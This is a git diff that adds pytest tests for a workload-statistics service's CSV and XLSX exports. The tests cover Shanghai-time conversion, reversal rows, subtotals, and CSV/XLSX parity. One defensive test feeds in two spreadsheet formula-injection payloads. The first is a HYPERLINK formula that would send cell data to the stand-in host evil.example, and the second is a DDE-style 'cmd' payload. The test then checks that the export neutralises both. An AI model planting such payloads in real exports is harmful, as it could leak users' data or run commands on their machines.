@@ -3,6 +3,7 @@ from __future__ import annotations
 
 import csv
 import io
+import time
 from datetime import UTC, datetime
 
 import openpyxl
@@ -10,7 +11,7 @@ import pytest
 from sqlalchemy import select
 
 from api.extensions import db
-from storage.models import ServiceLine
+from storage.models import ServiceLine, WorkloadEntry
 from tests.settlement_helpers import completed_items, entry_ids, ledger_sum
 
 JUNE = datetime(2026, 6, 10, 3, 0, tzinfo=UTC)
@@ -95,3 +96,102 @@ def test_counts_by_month_and_progress(world):
     assert book.sheetnames == ["完成事项统计", "完成进度"]
     book.close()
     assert world.get("impl", "/api/v1/exports/counts").status_code == 403
+
+
+@pytest.fixture
+def local_zone_far_from_utc(monkeypatch):
+    """The process's own time zone must not leak into exports: SQLite hands timestamps back naive (UTC)."""
+    monkeypatch.setenv("TZ", "America/New_York")
+    time.tzset()
+    yield
+    monkeypatch.undo()
+    time.tzset()
+
+
+def test_csv_detail_rows_exactly_in_shanghai_time(world, local_zone_far_from_utc):
+    late = datetime(2026, 6, 30, 16, 30, 5, 250000, tzinfo=UTC)  # 00:30 on 1 July in Shanghai
+    a = completed_items(1, prefix="XA", channels=("pc", "mobile"), at=late)
+    b = completed_items(1, prefix="XB", line="2", channels=("kiosk",), department="DB", at=JULY, difficulty="1.25")
+    pc, mobile = entry_ids(a)
+    (kiosk,) = entry_ids(b)
+    r = world.post("pm", f"/api/v1/workload/entries/{mobile}/reverse", json={"reason": "重复计量, \"二次\""})
+    assert r.status_code == 201
+    reversal = r.get_json()["id"]
+    db.session.get(WorkloadEntry, reversal).tallied_at = datetime(2026, 8, 15, 15, 59, 59, tzinfo=UTC)
+    db.session.commit()
+
+    r = world.get("pm", "/api/v1/exports/workload.csv")
+    assert r.status_code == 200 and r.data.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
+    line1 = ["SH-YWTB-2025", "1", "单部门事项接入"]
+    line2 = ["SH-YWTB-2025", "2", "跨省通办事项接入"]
+    assert rows[1:] == [
+        line1 + ["事项 XA-0", "XA-0000", "DA", "PC端", "新增接入", "1.00", "1.00", "45000.00", "45000.00",
+                 "2026-07-01", "2026-07-01 00:30", str(pc), ""],
+        ["小计", "1", "单部门事项接入", "", "", "", "PC端", "", "1.00", "", "", "45000.00", "", "", "", ""],
+        line1 + ["事项 XA-0", "XA-0000", "DA", "移动端", "新增接入", "1.00", "1.00", "72000.00", "72000.00",
+                 "2026-07-01", "2026-07-01 00:30", str(mobile), ""],
+        line1 + ["事项 XA-0", "XA-0000", "DA", "移动端", "新增接入", "-1.00", "1.00", "72000.00", "-72000.00",
+                 "2026-07-01", "2026-08-15 23:59", str(reversal), f"冲销 #{mobile}：重复计量, \"二次\""],
+        ["小计", "1", "单部门事项接入", "", "", "", "移动端", "", "0.00", "", "", "0.00", "", "", "", ""],
+        ["服务类别合计", "1", "单部门事项接入", "", "", "", "", "", "1.00", "", "", "45000.00", "", "", "", ""],
+        line2 + ["事项 XB-0", "XB-0000", "DB", "自助终端", "新增接入", "1.00", "1.25", "80000.00", "100000.00",
+                 "2026-07-02", "2026-07-02 11:00", str(kiosk), ""],
+        ["小计", "2", "跨省通办事项接入", "", "", "", "自助终端", "", "1.00", "", "", "100000.00", "", "", "", ""],
+        ["服务类别合计", "2", "跨省通办事项接入", "", "", "", "", "", "1.00", "", "", "100000.00", "", "", "", ""],
+        ["合计", "", "", "", "", "", "", "", "2.00", "", "", "145000.00", "", "", "", ""],
+    ]
+
+
+def test_csv_and_xlsx_detail_sheets_carry_the_same_lines(world, local_zone_far_from_utc):
+    _ledger(world)
+    r = world.get("pm", "/api/v1/exports/workload.csv")
+    text_rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
+    r = world.get("pm", "/api/v1/exports/workload.xlsx")
+    book = openpyxl.load_workbook(io.BytesIO(r.data), read_only=True)
+    cell_rows = list(book["工作量统计明细表"].iter_rows(values_only=True))
+    book.close()
+    assert len(text_rows) == len(cell_rows) == 1 + 9 + 3 + 2 + 1  # header, entries, subtotals, line totals, total
+    for text_row, cell_row in zip(text_rows, cell_rows, strict=True):
+        cells = [f"{v:.2f}" if isinstance(v, float | int) and i in (8, 9, 10, 11) else v
+                 for i, v in enumerate(cell_row)]
+        assert text_row == ["" if v is None else str(v) for v in cells]
+
+
+def test_the_detail_sheet_sees_changes_not_yet_flushed(world):
+    from engine.reports import WorkloadFilter, csv_stream
+
+    (item,) = completed_items(1, prefix="XF", at=JUNE)
+    entry = db.session.get(WorkloadEntry, entry_ids([item])[0])
+    entry.reason = "未提交的说明"  # pending in the session, as inside a use case before its commit
+    entry.reverses_id = entry.id
+    text = b"".join(csv_stream(db.session, WorkloadFilter())).decode("utf-8-sig")
+    assert f"冲销 #{entry.id}：未提交的说明" in text
+    db.session.rollback()
+
+
+def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(world):
+    """An item name is typed by a user; opening an export must never run it as a spreadsheet formula."""
+    from storage.models import WorkItem
+
+    ids = completed_items(2, prefix="FX", channels=("pc",), at=JUNE)
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+    for item_id, name in zip(ids, hostile, strict=True):
+        db.session.get(WorkItem, item_id).name = name
+    db.session.commit()
+
+    r = world.get("pm", "/api/v1/exports/workload.xlsx")
+    assert r.status_code == 200
+    book = openpyxl.load_workbook(io.BytesIO(r.data))  # not read-only: data_type tells formula from text
+    sheet = book["工作量统计明细表"]
+    cells = [row[3] for row in sheet.iter_rows(min_row=2) if row[3].value in hostile]
+    assert sorted(c.value for c in cells) == sorted(hostile)
+    assert all(c.data_type == "s" for c in cells)  # "f" would be a formula
+    book.close()
+
+    r = world.get("pm", "/api/v1/exports/workload.csv")
+    parsed = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
+    names = [row[3] for row in parsed[1:] if isinstance(row[3], str) and row[3].lstrip("'") in hostile]
+    assert sorted(names) == sorted("'" + h for h in hostile)
+    # Numbers that start with a minus sign (reversals) are still numbers, not neutralised text.
+    assert all(not row[11].startswith("'") for row in parsed[1:] if row[11])
